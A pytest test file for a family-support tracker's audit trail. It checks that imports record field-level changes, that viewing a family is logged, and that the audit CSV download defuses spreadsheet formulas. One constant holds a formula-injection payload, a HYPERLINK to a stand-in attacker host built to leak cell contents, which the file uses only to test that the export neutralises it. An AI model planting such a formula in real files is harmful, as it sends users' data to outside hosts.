"""What the trail must hold for an insider's actions to be traceable, and what it must not
hand back live: imported changes field by field, who looked at which family, and the
audit download with a formula typed into the sign-in box."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
import sqlalchemy as sa

from tests.app.conftest import by_label, manager, open_app, practitioner  # noqa: F401 - fixtures
from tests.unit.helpers import FAMILY_HEADER, SCORE_HEADER, write_csv
from tracker.files.audit_export import audit_csv
from tracker.files.importing import import_files
from tracker.people.audit import audit_frame, record
from tracker.records.families import family_by_ref
from tracker.store.db import write_session
from tracker.store.models import AuditLog

TODAY = date(2025, 6, 1)
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'


def audit_rows(engine, **where) -> list[AuditLog]:
    statement = sa.select(AuditLog).order_by(AuditLog.id)
    for name, value in where.items():
        statement = statement.where(getattr(AuditLog, name) == value)
    with engine.connect() as connection:
        return connection.execute(statement).all()


def test_a_replacing_import_records_each_changed_value(engine, tmp_path):
    families = [
        ["F1", "Northfield", "tier 2", "Ann Worker", "School", "2025-01-06"],
        ["F2", "Riverside", "tier 3", "Bob Worker", "GP", "2025-01-10"],
    ]
    scores = [["F1", "taf-dtt", "B", "2025-02-01", "worker", "housing", "4"]]
    first = [
        write_csv(tmp_path / "families.csv", FAMILY_HEADER, families),
        write_csv(tmp_path / "scores.csv", SCORE_HEADER, scores),
    ]
    assert import_files(engine, first, today=TODAY, actor="setup").ok
    families[0][1] = "Southfield"
    scores[0][6] = "1"
    (tmp_path / "again").mkdir()
    second = [
        write_csv(tmp_path / "again" / "families.csv", FAMILY_HEADER, families),
        write_csv(tmp_path / "again" / "scores.csv", SCORE_HEADER, scores),
    ]
    assert import_files(engine, second, replace=True, today=TODAY, actor="insider").ok
    with engine.connect() as connection:
        f1 = family_by_ref(connection, "F1").id
    changes = [row for row in audit_rows(engine, actor="insider") if row.entity != "import"]
    assert {(row.entity, row.family_id) for row in changes} == {
        ("family", f1),
        ("domain score", f1),
    }
    by_entity = {row.entity: row for row in changes}
    assert json.loads(by_entity["family"].before) == {"area": "Northfield"}
    assert json.loads(by_entity["family"].after) == {"area": "Southfield"}
    assert json.loads(by_entity["domain score"].before) == {"score": 4}
    assert json.loads(by_entity["domain score"].after) == {"score": 1}
    assert "housing" in by_entity["domain score"].entity_id
    # The family's history (what its page shows) holds the imported changes too.
    with engine.connect() as connection:
        history = audit_frame(connection, family_id=f1)
    assert "insider" in set(history["actor"])


def test_an_import_records_what_it_added_for_each_family(engine, tmp_path):
    families = [["F1", "Northfield", "tier 2", "Ann Worker", "School", "2025-01-06"]]
    scores = [
        ["F1", "taf-dtt", "B", "2025-02-01", "worker", "housing", "4"],
        ["F1", "taf-dtt", "B", "2025-02-01", "worker", "general_health", "3"],
    ]
    paths = [
        write_csv(tmp_path / "families.csv", FAMILY_HEADER, families),
        write_csv(tmp_path / "scores.csv", SCORE_HEADER, scores),
    ]
    assert import_files(engine, paths, today=TODAY, actor="importer").ok
    with engine.connect() as connection:
        f1 = family_by_ref(connection, "F1").id
    added = audit_rows(engine, family_id=f1)
    assert len(added) == 1
    assert json.loads(added[0].after)["added"] == {"families": 1, "assessments": 1, "scores": 2}


def test_the_audit_download_neutralises_a_formula_typed_at_sign_in(engine):
    with write_session(engine) as session:
        record(session, actor=FORMULA, action="sign_in_failed", entity="user", entity_id=FORMULA)
    with engine.connect() as connection:
        frame = audit_frame(connection)
    cells = [
        cell
        for row in csv.reader(io.StringIO(audit_csv(frame).decode("utf-8-sig")))
        for cell in row
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.sqlite_only
def test_opening_a_family_is_recorded_once_per_session(
    practitioner,  # noqa: F811 - the fixture imported above
    sample_engine,
):
    with sample_engine.connect() as connection:
        before = connection.execute(sa.select(sa.func.max(AuditLog.id))).scalar_one()
    app = open_app(practitioner, "pages/family_journey.py")
    assert not app.exception
    family_ref = by_label(app.selectbox, "Family").value
    app.run()
    app.switch_page("pages/record_scores.py")
    app.run()
    assert not app.exception
    views = [row for row in audit_rows(sample_engine, action="view") if row.id > before]
    assert len(views) == 1
    assert views[0].actor == practitioner.actor
    assert views[0].entity_id == family_ref
    with sample_engine.connect() as connection:
        assert views[0].family_id == family_by_ref(connection, family_ref).id


@pytest.mark.sqlite_only
def test_the_family_history_shows_what_an_import_changed(
    manager,  # noqa: F811 - the fixture imported above
    sample_engine,
    tmp_path,
):
    row = ["IMP-9", "Northfield", "tier 2", "Ann Worker", "GP", "2025-01-06"]
    path = write_csv(tmp_path / "families.csv", FAMILY_HEADER, [row])
    assert import_files(sample_engine, [path], today=TODAY, actor="first").ok
    path = write_csv(tmp_path / "families.csv", FAMILY_HEADER, [[row[0], "Harbourside", *row[2:]]])
    assert import_files(sample_engine, [path], replace=True, today=TODAY, actor="insider").ok
    app = open_app(manager, "pages/family_journey.py", family="IMP-9")
    assert not app.exception
    history = next(m.value for m in app.markdown if "by import" in m.value).replace("\\", "")
    changed = [line for line in history.splitlines() if line.startswith("- insider ")]
    assert len(changed) == 1
    assert "changed the family's area from Northfield to Harbourside by import" in changed[0]
